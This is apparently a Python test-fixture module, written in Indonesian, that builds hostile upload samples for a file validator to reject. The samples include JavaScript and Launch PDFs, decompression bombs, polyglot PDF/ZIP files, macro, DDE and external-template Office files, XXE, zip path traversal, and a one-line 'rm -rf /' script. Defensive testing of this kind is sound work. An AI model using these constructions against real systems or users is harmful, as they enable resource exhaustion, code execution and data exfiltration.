"""Hostile files, each made here: what an attacker or an unlucky colleague would upload."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image

from tests.factories.kinerja import gambar, kantor, pdf, rujukan, simpan
from tests.kinerja import berkas_lain

P = pikepdf


def pdf_dengan(ubah: Any, **lain: Any) -> bytes:
    """A one-page PDF after `ubah(dokumen)`."""
    dokumen = pikepdf.open(io.BytesIO(pdf()))
    ubah(dokumen)
    return simpan(dokumen, **lain)


def _js(d: pikepdf.Pdf) -> pikepdf.Object:
    return d.make_indirect(P.Dictionary(S=P.Name.JavaScript, JS=P.String("app.alert(1)")))


def _pasang(jalur: str, buat: Any) -> Any:
    def ubah(d: pikepdf.Pdf) -> None:
        sasaran = d.pages[0].obj if jalur.startswith("halaman") else d.Root
        sasaran[f"/{jalur.split('.')[-1]}"] = buat(d)

    return ubah


def _anotasi(**isi: Any) -> Any:
    def buat(d: pikepdf.Pdf) -> pikepdf.Object:
        return P.Array([d.make_indirect(P.Dictionary(Type=P.Name.Annot, Rect=P.Array([0, 0, 9, 9]), **isi))])

    return buat


def _lampiran(d: pikepdf.Pdf) -> None:
    d.attachments["a.exe"] = b"MZ"


def pdf_bom() -> bytes:
    """An object stream that unfolds to far more than any reader may hold."""
    isi = zlib.compress(b"1 0 " + b" " * (300 * 1024 * 1024), 9)
    kepala = b"%PDF-1.7\n"
    objek = (
        b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(isi)
        + isi
        + b"\nendstream\nendobj\n"
    )
    letak = len(kepala)
    xref = b"".join(
        struct.pack(">BIH", *b)
        for b in [
            (0, 0, 65535),
            (2, 5, 0),
            (0, 0, 0),
            (0, 0, 0),
            (0, 0, 0),
            (1, letak, 0),
            (1, letak + len(objek), 0),
        ]
    )
    ekor = (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(xref)
        + xref
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (letak + len(objek))
    )
    return kepala + objek + ekor


def pdf_tersandi() -> bytes:
    d = pikepdf.open(io.BytesIO(pdf()))
    return simpan(d, encryption=pikepdf.Encryption(owner="a", user="b"))


def pdf_tersandi_pemilik() -> bytes:
    d = pikepdf.open(io.BytesIO(pdf()))
    return simpan(d, encryption=pikepdf.Encryption(owner="a", user=""))


def zip_dengan(bagian: dict[str, bytes]) -> bytes:
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isi in bagian.items():
            arsip.writestr(nama, isi)
    return keluar.getvalue()


def docx_bom() -> bytes:
    """Small on disk, a quarter of a gigabyte when opened."""
    return kantor("docx", {f"word/media/{n}.xml": b"\0" * (50 * 1024 * 1024) for n in range(5)})


def docx_bom_satu() -> bytes:
    return kantor("docx", {"word/media/besar.xml": b"\0" * (40 * 1024 * 1024)})


def docx_tersandi() -> bytes:
    """The bit that says "encrypted" on the first part."""
    isi = bytearray(kantor("docx"))
    isi[6] |= 1
    tengah = isi.find(b"PK\x01\x02")
    isi[tengah + 8] |= 1
    return bytes(isi)


def docx_rusak() -> bytes:
    """A part whose bytes are not what the table says."""
    isi = bytearray(kantor("docx", {"word/media/a.txt": b"abc" * 50}))
    awal = isi.find(b"word/media/a.txt") + len(b"word/media/a.txt")
    isi[awal + 2] ^= 0xFF
    return bytes(isi)


_MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>'


def _instr(*potongan: str) -> str:
    return "<w:document>" + "".join(f"<w:instrText>{p}</w:instrText>" for p in potongan) + "</w:document>"


# name → (bytes, a word that the refusal must contain)
DITOLAK: dict[str, tuple[Any, str]] = {
    # by content, whatever the name says
    "kosong": (b"", "kosong"),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "program"),
    "exe": (b"MZ\x90\x00" + b"\0" * 200, "program"),
    "skrip": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "java_class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "program"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    "svg_berxml": (b'<?xml version="1.0"?>\n<svg/>', "SVG"),
    "svg_berbom": (b"\xef\xbb\xbf  <SVG/>", "SVG"),
    "html": (b"<!DOCTYPE html><script>alert(1)</script>", "HTML"),
    "gif": (b"GIF89a" + b"\0" * 50, "GIF"),
    "gif_jar": (b"GIF89a/*" + zip_dengan({"META-INF/MANIFEST.MF": b"a"}), "GIF"),
    "bmp": (b"BM" + b"\0" * 60, "Format gambar"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + b"\0" * 30, "HEIC"),
    "ole": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "kata sandi"),
    "rar": (b"Rar!\x1a\x07\x00", "arsip"),
    "gzip": (b"\x1f\x8b\x08\x00", "arsip"),
    "rtf": (b"{\\rtf1 \\object}", "RTF"),
    "teks": (b"sekadar catatan", "tidak dikenali"),
    # PDF
    "pdf_js_buka": (lambda: pdf_dengan(_pasang("OpenAction", _js)), "JavaScript"),
    "pdf_js_nama": (
        lambda: pdf_dengan(
            _pasang(
                "Names",
                lambda d: P.Dictionary(JavaScript=P.Dictionary(Names=P.Array([P.String("a"), _js(d)]))),
            )
        ),
        "JavaScript",
    ),
    "pdf_js_dalam_aliran_objek": (
        lambda: pdf_dengan(
            _pasang("halaman.Annots", lambda d: _anotasi(Subtype=P.Name.Link, A=_js(d))(d)),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            compress_streams=True,
        ),
        "JavaScript",
    ),
    "pdf_js_berkode": (lambda: pdf().replace(b"%%EOF", b"% /J#61v#61Script\n%%EOF"), "JavaScript"),
    "pdf_launch": (
        lambda: pdf_dengan(
            _pasang(
                "halaman.Annots",
                _anotasi(Subtype=P.Name.Link, A=P.Dictionary(S=P.Name.Launch, F=P.String("calc"))),
            )
        ),
        "membuka program",
    ),
    "pdf_aa_halaman": (
        lambda: pdf_dengan(_pasang("halaman.AA", lambda d: P.Dictionary(O=P.Dictionary(S=P.Name.URI)))),
        "tindakan otomatis",
    ),
    "pdf_aa_dokumen": (lambda: pdf_dengan(_pasang("AA", lambda d: P.Dictionary())), "tindakan otomatis"),
    "pdf_buka_situs": (
        lambda: pdf_dengan(
            _pasang("OpenAction", lambda d: P.Dictionary(S=P.Name.URI, URI=P.String("http://jahat.example")))
        ),
        "tindakan otomatis saat dibuka",
    ),
    "pdf_kirim": (
        lambda: pdf_dengan(
            _pasang("halaman.Annots", _anotasi(Subtype=P.Name.Link, A=P.Dictionary(S=P.Name.SubmitForm)))
        ),
        "mengirim data",
    ),
    "pdf_lampiran": (lambda: pdf_dengan(_lampiran), "berkas sisipan"),
    "pdf_anotasi_berkas": (
        lambda: pdf_dengan(_pasang("halaman.Annots", _anotasi(Subtype=P.Name.FileAttachment))),
        "berkas sisipan",
    ),
    "pdf_media": (
        lambda: pdf_dengan(_pasang("halaman.Annots", _anotasi(Subtype=P.Name.RichMedia))),
        "media",
    ),
    "pdf_xfa": (
        lambda: pdf_dengan(_pasang("AcroForm", lambda d: P.Dictionary(XFA=P.String("x")))),
        "XFA",
    ),
    "pdf_sandi": (pdf_tersandi, "kata sandi"),
    "pdf_sandi_pemilik": (pdf_tersandi_pemilik, "kata sandi"),
    "pdf_terpotong": (lambda: pdf()[:120], "utuh"),
    "pdf_sampah": (lambda: b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF", "rusak"),
    "pdf_didahului": (lambda: b"MZ"[:0] + b"\n\n" + pdf(), "didahului"),
    "pdf_berekor": (lambda: pdf() + b"<script>alert(1)</script>", "setelah akhir"),
    "pdf_zip": (lambda: pdf() + zip_dengan({"a.class": b"x"}), "setelah akhir"),
    "pdf_zip_terselip": (lambda: _pdf_zip_terselip(), "arsip"),
    "pdf_tanpa_halaman": (lambda: simpan(pikepdf.new()), "halaman"),
    "pdf_dalam": (lambda: pdf_dengan(_pasang("Sarang", lambda d: _sarang(60))), "terlalu dalam"),
    "pdf_sarang_dangkal": (lambda: pdf_dengan(_pasang("Sarang", lambda d: _sarang_js(3))), "JavaScript"),
    "pdf_banyak_objek": (lambda: pdf_banyak_objek(), "terlalu rumit"),
    "pdf_bom": (pdf_bom, "rusak"),
    # office
    "zip_biasa": (lambda: zip_dengan({"a.txt": b"a"}), "arsip"),
    "jar": (lambda: zip_dengan({"META-INF/MANIFEST.MF": b"a", "A.class": b"b"}), "arsip"),
    "docx_jar": (lambda: kantor("docx", {"META-INF/MANIFEST.MF": b"a"}), "program"),
    "docx_class": (lambda: kantor("docx", {"A.class": b"a"}), "program"),
    "docm": (lambda: kantor("docx", jenis=_MAKRO), "makro"),
    "docx_vba": (lambda: kantor("docx", {"word/vbaProject.bin": b"a"}), "makro"),
    "xlsx_lembar_makro": (lambda: kantor("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "makro"),
    "docx_activex": (lambda: kantor("docx", {"word/activeX/activeX1.xml": b"<a/>"}), "objek sisipan"),
    "docx_ole": (lambda: kantor("docx", {"word/embeddings/oleObject1.bin": b"a"}), "objek sisipan"),
    "docx_sisipan": (lambda: kantor("docx", {"word/embeddings/a.pdf": pdf()}), "berkas sisipan"),
    "docx_sisipan_makro": (
        lambda: kantor("docx", {"word/embeddings/a.xlsx": kantor("xlsx", {"xl/vbaProject.bin": b"a"})}),
        "makro",
    ),
    "docx_sarang": (
        lambda: kantor(
            "docx",
            {
                "word/embeddings/a.docx": kantor(
                    "docx", {"word/embeddings/b.docx": kantor("docx", {"word/embeddings/c.docx": kantor()})}
                )
            },
        ),
        "berkas sisipan",
    ),
    "docx_templat_luar": (
        lambda: kantor(
            "docx",
            {
                "word/_rels/settings.xml.rels": rujukan(
                    "attachedTemplate", "http://jahat.example/a.dotm", luar=True
                )
            },
        ),
        "dari luar",
    ),
    "docx_ole_luar": (
        lambda: kantor(
            "docx",
            {"word/_rels/document.xml.rels": rujukan("oleObject", "http://jahat.example/a", luar=True)},
        ),
        "dari luar",
    ),
    "docx_gambar_jaringan": (
        lambda: kantor(
            "docx", {"word/_rels/document.xml.rels": rujukan("image", "file://10.0.0.1/a.png", luar=True)}
        ),
        "dari luar",
    ),
    "xlsx_tautan_jaringan": (
        lambda: kantor(
            "xlsx",
            {
                "xl/externalLinks/_rels/a.xml.rels": rujukan(
                    "externalLinkPath", "\\\\server\\a.xlsx", luar=True
                )
            },
        ),
        "dari luar",
    ),
    "docx_tautan_skrip": (
        lambda: kantor(
            "docx", {"word/_rels/document.xml.rels": rujukan("hyperlink", "javascript:alert(1)", luar=True)}
        ),
        "dari luar",
    ),
    "docx_altchunk": (
        lambda: kantor("docx", {"word/_rels/document.xml.rels": rujukan("aFChunk", "a.html")}),
        "isi aktif",
    ),
    "docx_dde": (lambda: kantor("docx", {"word/document.xml": _instr("DDEAUTO c:\\\\a")}), "DDE"),
    "docx_dde_terpotong": (lambda: kantor("docx", {"word/document.xml": _instr(" DD", "E ", "cmd")}), "DDE"),
    "xlsx_dde": (lambda: kantor("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}), "DDE"),
    "docx_bom": (docx_bom, "terlalu besar"),
    "docx_bom_satu": (docx_bom_satu, "mengembang"),
    "docx_xml_besar": (
        lambda: kantor("docx", {"word/document.xml": random.Random(1).randbytes(21 * 1024 * 1024)}),
        "terlalu besar",
    ),
    "docx_banyak": (lambda: kantor("docx", {f"word/{n}.xml": b"" for n in range(5001)}), "terlalu besar"),
    "docx_xxe": (lambda: kantor("docx", {"[Content_Types].xml": _XXE}), "XML"),
    "docx_bukan_xml": (lambda: kantor("docx", {"[Content_Types].xml": "bukan"}), "XML"),
    "docx_jalur": (lambda: kantor("docx", {"../../etc/a": b"a"}), "tidak wajar"),
    "docx_kembar": (lambda: kantor("docx", {"word/DOCUMENT.xml": b"<a/>"}), "tidak wajar"),
    "docx_sandi": (docx_tersandi, "kata sandi"),
    "docx_rusak": (docx_rusak, "rusak"),
    "docx_terpotong": (lambda: kantor()[:-30], "rusak"),
    "docx_jenis_lain": (lambda: kantor("docx", jenis="text/plain"), "tidak dikenali"),
    # images
    "jpeg_rusak": (lambda: gambar("JPEG")[:200], "rusak"),
    "jpeg_terpotong": (lambda: gambar("JPEG", (900, 900))[:4000], "rusak"),
    "png_isi_rusak": (lambda: png_raksasa(50, 50), "rusak"),
    "png_rusak": (lambda: gambar("PNG")[:40], "rusak"),
    "webp_rusak": (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "rusak"),
    "png_raksasa": (lambda: png_raksasa(), "megapiksel"),
    "png_terlalu_luas": (lambda: png_raksasa(9000, 9000), "megapiksel"),
    **berkas_lain.DITOLAK,
}


def png_raksasa(lebar: int = 30_000, tinggi: int = 30_000) -> bytes:
    """The header of a picture that would fill gigabytes."""

    def potong(jenis: bytes, isi: bytes) -> bytes:
        return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))

    return (
        b"\x89PNG\r\n\x1a\n"
        + potong(b"IHDR", struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0))
        + potong(b"IDAT", zlib.compress(b"\0" * 1000))
        + potong(b"IEND", b"")
    )


def _sarang(dalam: int) -> pikepdf.Object:
    isi = P.Array([])
    for _ in range(dalam):
        isi = P.Array([isi])
    return isi


def _sarang_js(dalam: int) -> pikepdf.Object:
    """Code inside arrays inside dictionaries, without an object of its own."""
    isi = P.Dictionary(S=P.Name.JavaScript)
    for _ in range(dalam):
        isi = P.Array([P.Dictionary(Isi=isi)])
    return isi


def pdf_banyak_objek() -> bytes:
    """More objects than any document of an office has, packed small."""
    d = pikepdf.open(io.BytesIO(pdf()))
    d.Root.Banyak = P.Array([d.make_indirect(P.Dictionary()) for _ in range(300_100)])
    return simpan(d, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _pdf_zip_terselip() -> bytes:
    """A PDF whose last lines are the comment of an archive: both readers are content."""
    arsip = bytearray(zip_dengan({"a.class": b"x"}))
    ekor = b"\nstartxref\n9\n%%EOF\n"
    arsip[-2:] = struct.pack("<H", len(ekor))
    return pdf() + b"% " + bytes(arsip) + ekor


def foto_berlokasi() -> bytes:
    """A phone's photo: upright by its EXIF only, with a position and a maker's note."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "TeleponSari"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "S", (6.0, 10.0, 30.0)
    return gambar("JPEG", (80, 40), exif=exif)
